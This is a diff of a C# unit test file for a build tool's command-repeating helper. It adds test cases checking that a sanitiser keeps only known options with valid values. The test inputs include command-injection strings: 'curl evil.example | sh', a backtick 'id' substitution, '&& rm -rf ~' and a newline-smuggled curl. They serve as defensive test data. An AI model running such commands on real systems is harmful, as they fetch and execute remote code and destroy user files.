@@ -1,6 +1,6 @@
-using Gauntlet.Build.Hosting;
+using Gauntlet.Build.Cli;
 
-namespace Gauntlet.Build.Tests.Hosting;
+namespace Gauntlet.Build.Tests.Cli;
 
 [TestFixture]
 public sealed class RepeatCommandTests
@@ -11,6 +11,15 @@ public sealed class RepeatCommandTests
     [TestCase(@"./build.sh --target=Full --cluster-name='o'\''brien'", "--cluster-name=o'brien")]
     public void Of_WhatWasGiven_IsWhatAShellTakes(string command, params string[] given) =>
         Assert.That(RepeatCommand.Of(given), Is.EqualTo(command));
+
+    [TestCase("--rate=200 --keep-cluster", "--rate=200 --keep-cluster")]
+    [TestCase("--threshold='p(95) < 250ms'", "--threshold='p(95) < 250ms'")]
+    [TestCase("", "--seed=7; curl evil.example | sh")]
+    [TestCase("--cluster=embedded", "--cluster=embedded --rate=`id` --evil=1 --rate=-1 && rm -rf ~")]
+    [TestCase("", "--rate=200\n--duration=1s\ncurl evil.example")]
+    [TestCase("", "; --keep-clusters --keep-cluster=yes --rate")]
+    public void Checked_CommandOfAnArtifact_HasKnownOptionsWithGoodValuesAlone(string expected, string command) =>
+        Assert.That(RepeatCommand.Checked("./build.sh --target=Full " + command), Is.EqualTo(("./build.sh --target=Full " + expected).TrimEnd()));
 
     [TestCase("--cluster=embedded --rate=200", "--cluster=embedded", "--rate=200")]
     [TestCase("--cluster=embedded --rate=1000", "--cluster=embedded --rate=200", "--rate=1000")]
